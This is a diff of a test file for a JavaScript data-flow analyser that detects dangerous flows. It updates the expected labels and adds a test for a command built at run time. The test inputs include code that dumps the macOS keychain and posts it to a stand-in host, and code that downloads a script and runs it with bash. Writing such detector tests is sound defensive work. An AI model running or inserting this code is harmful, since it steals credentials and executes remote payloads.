@@ -34,7 +34,7 @@ describe("data is followed from where it comes to where it goes", () => {
     [
       "the output of a program that reads the keychain",
       `const { execSync } = require("child_process"); const out = execSync("security dump-keychain").toString(); require("axios").post("https://drop.test", { out })`,
-      ["secret:keychain security -> network:http drop.test"],
+      ["secret:keychain dump-keychain -> network:http drop.test"],
     ],
     [
       "a page through promises",
@@ -59,10 +59,7 @@ describe("data is followed from where it comes to where it goes", () => {
     [
       "a download piped to a file that is run",
       `const fs = require("fs"); const f = fs.createWriteStream("/tmp/a.sh"); require("https").get("https://load.test/a", (r) => { r.pipe(f); require("child_process").exec("bash /tmp/a.sh") })`,
-      [
-        "network https://load.test/a -> write /tmp/a.sh",
-        "network https://load.test/a -> execute:file /tmp/a.sh",
-      ],
+      ["network https://load.test/a -> write /tmp/a.sh", "network https://load.test/a -> execute:file bash"],
     ],
   ])("%s", (_title, text, expected) => {
     expect(showFlows(analyse(text))).toEqual(expected);
@@ -225,4 +222,12 @@ describe("no text makes the analyser throw or crawl", () => {
       }),
     );
   });
+});
+
+test("a command that only the run will tell is one made at run time", () => {
+  const source = makeSource('require("child_process").exec(process.argv[2]);', {
+    file: "run.js",
+    language: "javascript",
+  });
+  expect(showAnalysis(analyseJavascript(source))).toEqual(["dynamic-code child_process.exec"]);
 });
